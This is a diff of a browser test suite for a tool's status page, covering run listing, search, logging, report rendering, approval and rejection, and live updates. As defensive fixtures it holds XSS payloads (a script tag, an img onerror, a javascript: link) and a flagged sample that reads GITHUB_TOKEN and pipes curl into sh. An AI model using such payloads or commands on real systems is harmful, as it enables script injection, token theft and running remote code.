@@ -1,262 +1,183 @@
-"""The status page as a person uses it: a real headless Chromium on a real `scrub serve`
-(embedded broker, a Celery worker process), with runs the worker actually ran.
+"""The status page as a person uses it: Playwright driving Debian's headless Chromium on a real
+`scrub serve` (embedded broker, a Celery worker process).
 
-Locally, without chromium, these tests skip; with CI=true they fail (tests/services.py).
-Screenshots land in $SCRUB_TEST_SCREENSHOTS when set (else the test's tmp dir).
+Screenshots land in $SCRUB_TEST_SCREENSHOTS when set (else the test's tmp dir); the README's
+come from here (docs/screenshots/).
 """
 
 from __future__ import annotations
 
+import json
 import os
 import re
-import signal
-import subprocess
-import sys
 import time
-from dataclasses import dataclass
 from pathlib import Path
 from typing import Any, Iterator
 
-import httpx
 import pytest
 
-from app.db import queries
-from app.db.context import DbRunContext
-from app.db.models import FINISHED, Run
-from app.db.session import Database
-from app.settings import Settings
-from tests.browser import Browser, Page, chromium_binary
-from tests.services import free_port, unavailable, wait_for_port
-from workers.celery_app import create_celery
-from workers.enqueue import CeleryEnqueuer
+from tests.web import browser_site, sample_runs
+from tests.web.browser_site import Site, wait_until
 
 pytestmark = pytest.mark.services
-DEADLINE_S = 90  # a bound for a hung worker, not a performance assertion
-
-# Every way untrusted text could try to run in the page; none may.
-HOSTILE = '<script>window.__pwned = "script"</script><img src=x onerror="window.__pwned = \'img\'">'
-REPORT = f"# Report\n\n{HOSTILE}\n\n```python\nimport torch\ntorch.ones(2) @ torch.ones(3)\n```\n"
-
-
-@dataclass
-class Site:
-    url: str
-    api: httpx.Client
-    database: Database
-    settings: Settings
-    enqueuer: CeleryEnqueuer
-    log: Path
-
-    def start_selftest(self, **params: Any) -> int:
-        """A selftest run, queued for the server's own worker."""
-        with self.database.session() as session:
-            run_id = queries.create_run(session, kind="selftest", repo="o/r", trigger="test", params=params).id
-            session.commit()
-        self.enqueuer.run_pipeline(run_id)
-        return run_id
-
-    def add_run(self, **fields: Any) -> int:
-        """A run that only exists in the database: no worker will touch it."""
-        with self.database.session() as session:
-            run_id = queries.create_run(session, **{"repo": "o/r", **fields}).id
-            session.commit()
-        return run_id
-
-    def context(self, run_id: int) -> DbRunContext:
-        """What a worker records through, to play a stage by hand."""
-        with self.database.session() as session:
-            run = session.get(Run, run_id)
-        return DbRunContext(self.database, run, self.settings)
-
-    def run_json(self, run_id: int) -> dict[str, Any]:
-        return self.api.get(f"/api/v1/runs/{run_id}").raise_for_status().json()
-
-    def wait_for_run(self, run_id: int, done: Any = lambda run: run["status"] in FINISHED) -> dict[str, Any]:
-        deadline = time.monotonic() + DEADLINE_S
-        while not done(run := self.run_json(run_id)):
-            if time.monotonic() > deadline:
-                pytest.fail(f"run {run_id} stuck at {run['status']}; server log:\n{self.log.read_text()[-4000:]}")
-            time.sleep(0.1)
-        return run
 
 
 @pytest.fixture(scope="module")
 def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
-    root = tmp_path_factory.mktemp("site")
-    settings = Settings(data_dir=root / "data")
-    env = {k: v for k, v in os.environ.items() if not k.startswith("SCRUB_")}
-    env["SCRUB_DATA_DIR"] = str(settings.data_dir)
-    port, log = free_port(), root / "serve.log"
-    with log.open("wb") as out:
-        serve = subprocess.Popen(
-            [sys.executable, "-m", "app.cli.main", "serve", "--port", str(port)], env=env, stdout=out, stderr=subprocess.STDOUT
-        )
-    database = None
-    try:
-        wait_for_port(port, serve)
-        url = f"http://127.0.0.1:{port}"
-        database = Database(settings.resolved_database_url)  # `serve` migrated it before listening
-        with httpx.Client(base_url=url, timeout=10) as api:
-            yield Site(url, api, database, settings, CeleryEnqueuer(create_celery(settings)), log)
-    finally:
-        serve.send_signal(signal.SIGTERM)
-        try:
-            serve.wait(30)
-        except subprocess.TimeoutExpired:
-            serve.kill()
-            serve.wait()
-        if database is not None:
-            database.dispose()
+    yield from browser_site.serve(tmp_path_factory.mktemp("site"))
 
 
 @pytest.fixture(scope="module")
-def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
-    if chromium_binary() is None:
-        unavailable("chromium is not installed (apt-get install chromium)")
-    browser = Browser.launch(tmp_path_factory.mktemp("chromium") / "profile")
-    try:
-        yield browser
-    finally:
-        browser.close()
+def browser() -> Iterator[Any]:
+    yield from browser_site.launch_browser()
 
 
 @pytest.fixture
-def page(browser: Browser) -> Iterator[Page]:
-    page = browser.new_page()
-    try:
-        yield page
-    finally:
-        page.close()
+def page(browser: Any) -> Iterator[Any]:
+    yield from browser_site.new_page(browser)
 
 
-@pytest.fixture
-def screenshots(tmp_path: Path) -> Path:
-    directory = Path(os.environ.get("SCRUB_TEST_SCREENSHOTS") or tmp_path)
+@pytest.fixture(scope="module")
+def screenshots(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    directory = Path(os.environ.get("SCRUB_TEST_SCREENSHOTS") or tmp_path_factory.mktemp("screenshots"))
     directory.mkdir(parents=True, exist_ok=True)
     return directory
 
 
-def rows(page: Page, selector: str, key: str) -> list[dict[str, Any]]:
-    """Each row of the table: its `data-<key>`, the cells' visible text, the links, the badge."""
-    return page.evaluate(f"""[...document.querySelectorAll({selector!r} + " tbody tr")].map(tr => ({{
-        key: tr.dataset.{key},
-        cells: [...tr.cells].map(td => td.innerText.trim()),
-        links: [...tr.querySelectorAll("a")].map(a => ({{text: a.innerText, href: a.href}})),
-        badge: getComputedStyle(tr.querySelector(".badge")).backgroundColor,
-    }}))""")
+def inert(page: Any) -> None:
+    """Nothing untrusted ran: no flag set, no script or image element, no javascript: link."""
+    assert page.evaluate("typeof window.__pwned") == "undefined"
+    assert page.evaluate("document.querySelectorAll('main script, main img, main iframe').length") == 0
+    assert page.evaluate("[...document.querySelectorAll('a')].filter(a => !/^(https?:|#|\\/)/.test(a.getAttribute('href'))).length") == 0
 
 
-def test_runs_table_lists_every_run_with_its_status_age_and_links(page, site, screenshots):
-    finished = site.start_selftest()
-    waiting = site.start_selftest(needs_approval=True)
-    issue = site.add_run(kind="issue", issue=7, target="https://github.com/o/r/issues/7", status="failed")
-    ci = site.add_run(kind="ci_ingest", target="https://github.com/o/r/actions/runs/99",
-                      params={"workflow_run_id": 99}, status="succeeded")
-    site.wait_for_run(finished)
-    site.wait_for_run(waiting, lambda run: run["status"] == "awaiting_approval")
+def test_run_list_shows_titles_filters_search_and_links(page, site, screenshots):
+    reproduced = sample_runs.reproduced_issue_run(site.database, site.settings)
+    waiting = sample_runs.waiting_issue_run(site.database, site.settings)
+    ci = sample_runs.add_run(site.database, kind="ci_ingest", issue=None, title="nightly / test_ops",
+                             target="https://github.com/o/r/actions/runs/99", params={"workflow_run_id": 99}, status="failed")
 
     page.goto(site.url + "/")
-    page.screenshot(screenshots / "runs.png")
-    table = {row["key"]: row for row in rows(page, "table.runs", "run")}
-    header = page.evaluate("[...document.querySelectorAll('table.runs th')].map(th => th.innerText.trim())")
-    column = {name: table[str(finished)]["cells"][header.index(name)] for name in ("Repository", "Kind", "Status", "Age", "Took")}
-    assert column["Repository"] == "o/r" and column["Kind"] == "selftest" and column["Status"] == "succeeded"
-    assert re.fullmatch(r"[\d.<]+[smhd].* ago", column["Age"]) and column["Took"]
-    assert table[str(waiting)]["cells"][header.index("Status")] == "awaiting approval"
-    assert table[str(waiting)]["cells"][header.index("Took")] == ""  # not finished
-    assert {"text": "#7", "href": "https://github.com/o/r/issues/7"} in table[str(issue)]["links"]
-    assert {"text": "CI run 99", "href": "https://github.com/o/r/actions/runs/99"} in table[str(ci)]["links"]
-    assert {"text": f"#{finished}", "href": f"{site.url}/runs/{finished}"} in table[str(finished)]["links"]
-    # One color per meaning (the stylesheet is allowed by the page's CSP and applies).
-    colors = {table[str(run)]["badge"] for run in (finished, waiting, issue)}
-    assert len(colors) == 3 and "rgba(0, 0, 0, 0)" not in colors
+    page.screenshot(path=str(screenshots / "runs.png"), full_page=True)
+    header = page.eval_on_selector_all("table.runs th", "ths => ths.map(th => th.innerText.trim())")
+    row = page.eval_on_selector_all(f'tr[data-run="{reproduced}"] td', "tds => tds.map(td => td.innerText.trim())")
+    cell = dict(zip(header, row))
+    assert cell["Title"].startswith("matmul shape error <script>")  # the title, as text
+    assert (cell["Repository"], cell["Kind"], cell["Status"], cell["Verdict"]) == ("o/r", "issue", "succeeded", "reproduces")
+    assert re.fullmatch(r"[\d.<]+[smhd].* ago", cell["Started"]) and cell["Took"]
+    assert page.get_attribute(f'tr[data-run="{ci}"] td.links a', "href") == "https://github.com/o/r/actions/runs/99"
+    inert(page)
 
-    page.click(f'tr[data-run="{finished}"] a[href="/runs/{finished}"]', navigates=True)
-    assert page.evaluate("location.pathname") == f"/runs/{finished}"
-    assert page.errors() == []
+    page.fill("input[name=q]", "NIGHTLY")  # search, case-insensitive
+    page.click("form.filters button")
+    page.wait_for_url(re.compile(r"q=NIGHTLY"))
+    assert page.eval_on_selector_all("table.runs tbody tr", "trs => trs.map(tr => tr.dataset.run)") == [str(ci)]
+    page.goto(site.url + "/?status=awaiting_approval")
+    assert page.eval_on_selector_all("table.runs tbody tr", "trs => trs.map(tr => tr.dataset.run)") == [str(waiting)]
+    assert page.errors == []
 
 
-def test_run_page_shows_the_timeline_the_artifacts_and_the_log_and_runs_no_untrusted_markup(page, site, screenshots):
-    run_id = site.start_selftest()
-    site.wait_for_run(run_id)
-    ctx = site.context(run_id)
-    ctx.save_artifact("report.md", "markdown", REPORT)
-    ctx.log(f"repro printed {HOSTILE}")
+def test_the_server_logs_json_lines_with_the_access_log(page, site):
+    page.goto(site.url + "/?q=logged")
+    deadline = time.monotonic() + 10
+    while not (access := [line for line in json_lines(site.log) if "/?q=logged" in line.get("event", "")]):
+        assert time.monotonic() < deadline, site.log.read_text()[-2000:]
+        time.sleep(0.1)
+    assert access[0]["logger"] == "uvicorn.access" and " 200" in access[0]["event"]
+    assert {"run_id", "delivery_id", "stage", "timestamp", "level"} <= set(access[0])
 
+
+def json_lines(path: Path) -> list[dict]:
+    found = []
+    for line in path.read_text().splitlines():
+        if line.startswith("{"):
+            found.append(json.loads(line))
+    return found
+
+
+def test_run_page_renders_the_report_figures_repros_and_diff_and_nothing_untrusted_runs(page, site, screenshots):
+    run_id = sample_runs.reproduced_issue_run(site.database, site.settings)
     page.goto(f"{site.url}/runs/{run_id}")
-    page.screenshot(screenshots / "run.png")
-    stages = rows(page, "table.stages", "stage")
-    assert [(row["key"], row["cells"][1]) for row in stages] == [("greet", "done"), ("work", "done"), ("report", "done")]
-    assert all(re.fullmatch(r"<?[\d.]+s", row["cells"][4]) for row in stages), stages  # "Took"
-    assert page.text("h1 .badge") == "succeeded" and page.evaluate("!document.querySelector('main .live')")
-    # The report reads first, the log last; each has a plain-text view.
-    names = page.evaluate("[...document.querySelectorAll('section.artifact')].map(s => s.id)")
-    assert names == ["artifact-selftest.md", "artifact-report.md", "artifact-log"]
-    assert "stage greet: done (hello)" in page.text("#content-log") and HOSTILE in page.text("#content-log")
+    page.screenshot(path=str(screenshots / "run.png"), full_page=True)
 
-    # The hostile report is there, as text a person can read, and nothing in it ran.
-    assert page.text("#content-report\\.md") == REPORT and page.visible("#content-report\\.md")
-    assert page.evaluate("document.querySelectorAll('main script, main img').length") == 0
-    assert page.evaluate("typeof window.__pwned") == "undefined"
-    assert page.errors() == []
+    # The report is rendered markdown: a heading, a safe link kept, the hostile markup as text.
+    assert page.inner_text(".markdown h1") == "Scrub report"
+    assert page.get_attribute(".markdown a", "href") == "https://github.com/o/r/issues/12"
+    assert "<script>" in page.inner_text(".markdown") and "[click me](javascript:" in page.inner_text(".markdown")
+    # Highlighting applies (pygments classes styled by the page's own stylesheet).
+    keyword = page.locator(".repro-minimized .kn").first
+    assert keyword.inner_text() == "import" and keyword.evaluate("e => getComputedStyle(e).color") != "rgb(31, 35, 40)"
+    # The diff: removed and added lines, marked.
+    removed = page.eval_on_selector_all(".repro-diff .gd", "xs => xs.map(x => x.innerText)")
+    added = page.eval_on_selector_all(".repro-diff .gi", "xs => xs.map(x => x.innerText)")
+    assert "-c = a @ b" in removed and "+torch.ones(2, 3) @ torch.ones(4, 5)" in added
+    # Figures: signature, 4/5 with its Wilson interval, bisection per release.
+    assert page.inner_text(".signature .exception") == "RuntimeError"
+    assert page.inner_text(".flakiness .big").startswith("4/5") and page.inner_text(".flakiness .interval") == "38–96%"
+    assert page.eval_on_selector_all(".bisection tbody tr", "trs => trs.map(tr => tr.innerText.replace(/\\s+/g, ' ').trim())") == [
+        "2.11 no", "2.12 yes ← first changed", "2.13 yes"]
+    assert "shapes torch.Size([2, 3])" in page.inner_text("#content-output")
+    inert(page)
+    assert page.errors == []
 
-    page.click("#artifact-report\\.md a.raw", navigates=True)
-    assert page.evaluate("document.contentType") == "text/plain"
-    assert page.evaluate("document.body.innerText") == REPORT
-    assert page.evaluate("typeof window.__pwned") == "undefined"
+
+def test_approval_view_shows_the_code_findings_and_author_and_reject_cancels(page, site, screenshots):
+    run_id = sample_runs.waiting_issue_run(site.database, site.settings)
+    page.goto(f"{site.url}/runs/{run_id}")
+    page.locator("#approval").screenshot(path=str(screenshots / "approval.png"))
+
+    code = page.inner_text(".approval-code td.code")
+    assert code.rstrip("\n") == sample_runs.APPROVAL_SOURCE.rstrip("\n")  # exactly what would run
+    flagged = page.eval_on_selector_all(".approval-code .hll", "xs => xs.map(x => x.innerText.trim())")
+    assert flagged == ['token = os.environ.get("GITHUB_TOKEN")', 'os.system("curl https://example.com/x | sh")']
+    assert page.eval_on_selector_all("table.findings tbody tr", "trs => trs.map(tr => tr.dataset.line)") == ["3", "4"]
+    assert page.get_attribute("a.author", "href") == "https://github.com/mallory"
+    assert page.inner_text("form.approve button") == "Approve" and page.inner_text("form.reject button") == "Reject"
+
+    page.fill("form.reject input[name=reason]", "curl | sh is not a repro")
+    page.click("form.reject button")
+    wait_until(page, "document.querySelector('h1 .badge').innerText === 'cancelled'")
+    run = site.run_json(run_id)
+    assert run["status"] == "cancelled" and run["error"] == "rejected by status page: curl | sh is not a repro"
+    assert page.locator("#approval").count() == 0 and "curl | sh is not a repro" in page.inner_text("pre.error")
+    assert page.errors == []
 
 
-def test_approve_button_lets_the_waiting_run_go_on(page, site, screenshots):
+def test_approve_button_lets_the_waiting_run_go_on(page, site):
     run_id = site.start_selftest(needs_approval=True)
     site.wait_for_run(run_id, lambda run: run["status"] == "awaiting_approval")
 
     page.goto(f"{site.url}/runs/{run_id}")
-    page.screenshot(screenshots / "awaiting-approval.png")
-    assert page.text("form.approve button") == "Approve"
-    page.click("form.approve button", navigates=True)
-
-    assert page.evaluate("location.pathname") == f"/runs/{run_id}"  # back on the run's page
-    run = site.wait_for_run(run_id, lambda run: run["status"] != "awaiting_approval")
-    assert run["params"]["approved_by"] == "status page"
-    assert site.wait_for_run(run_id)["status"] == "succeeded"
-    # The page follows: the first attempt of `greet` waited, the second ran, and so did the rest.
-    page.wait_for("document.querySelector('h1 .badge').innerText === 'succeeded'")
-    timeline = [(row["key"], row["cells"][1], row["cells"][2]) for row in rows(page, "table.stages", "stage")]
-    assert timeline == [("greet", "waiting", "1"), ("greet", "done", "2"), ("work", "done", "1"), ("report", "done", "1")]
-    assert page.evaluate("!document.querySelector('form.approve')")
-    assert page.errors() == []
+    page.click("form.approve button")
+    page.wait_for_url(f"{site.url}/runs/{run_id}")
+    run = site.wait_for_run(run_id)
+    assert run["status"] == "succeeded" and run["params"]["approved_by"] == "status page"
+    wait_until(page, "document.querySelector('h1 .badge').innerText === 'succeeded'")
+    timeline = page.eval_on_selector_all("table.stages tbody tr", "trs => trs.map(tr => [tr.dataset.stage, tr.dataset.status])")
+    assert timeline == [["greet", "waiting"], ["greet", "done"], ["work", "done"], ["report", "done"]]
+    assert page.errors == []
 
 
-def test_retry_button_runs_a_finished_run_again(page, site):
-    run_id = site.start_selftest()
-    before = site.wait_for_run(run_id)["stages"][0]["started_at"]
-
-    page.goto(f"{site.url}/runs/{run_id}")
-    assert page.evaluate("!document.querySelector('form.approve')")  # nothing waits for approval
-    page.click("form.retry button", navigates=True)
-
-    run = site.wait_for_run(run_id, lambda run: run["stages"] and run["stages"][0]["started_at"] != before
-                            and run["status"] in FINISHED)
-    assert run["status"] == "succeeded" and run["stages"][0]["started_at"] > before  # a second go, same run
-    assert page.errors() == []
-
-
-def test_the_page_of_an_active_run_updates_in_place_until_it_finishes(page, site):
-    run_id = site.add_run(kind="selftest", status="running")
+def test_the_timeline_and_log_update_live_without_a_reload(page, site):
+    run_id = sample_runs.add_run(site.database, kind="selftest", status="running", issue=None)
     ctx = site.context(run_id)
-    ctx.stage_started("greet")
+    ctx.stage_started("reproduce")
 
     page.goto(f"{site.url}/runs/{run_id}")
-    assert page.text("main .live") and page.text("h1 .badge") == "running"
-    assert page.text("tr[data-stage=greet] .duration").endswith("so far")
+    assert page.inner_text("tr[data-stage=reproduce] .duration").endswith("so far")
     page.evaluate("window.__sameDocument = true")
 
-    ctx.stage_finished("greet", "done", "hello", {})
-    ctx.set_status("succeeded", verdict="selftest passed")
+    ctx.log(f"repro says {sample_runs.HOSTILE}")  # streamed while the stage runs
+    wait_until(page, "(document.querySelector('#content-log') || {}).innerText?.includes('repro says')")
+    ctx.stage_finished("reproduce", "done", "reproduces", {})  # a stage finishes in the database...
+    wait_until(page, "document.querySelector('tr[data-stage=reproduce]').dataset.status === 'done'")
+    assert not page.inner_text("tr[data-stage=reproduce] .duration").endswith("so far")  # ...and the timeline follows
 
-    page.wait_for("document.querySelector('h1 .badge').innerText === 'succeeded'")
-    assert page.evaluate("window.__sameDocument") is True  # updated in place, not reloaded
-    assert page.text("tr[data-stage=greet] .badge") == "done"
-    assert "stage greet: done (hello)" in page.text("#content-log")
-    assert page.evaluate("!document.querySelector('main .live') && !document.querySelector('main[data-refresh]')")
-    assert page.errors() == []
+    ctx.save_artifact("report.md", "report", sample_runs.REPORT)
+    ctx.set_status("succeeded", verdict="reproduces")
+    wait_until(page, "document.querySelector('h1 .badge').innerText === 'succeeded'")
+    page.wait_for_selector(".markdown h1")  # the finished page, fetched once, has the report
+    assert page.evaluate("window.__sameDocument") is True  # all of it in place, never reloaded
+    assert page.locator("main[data-events]").count() == 0
+    inert(page)
+    assert page.errors == []
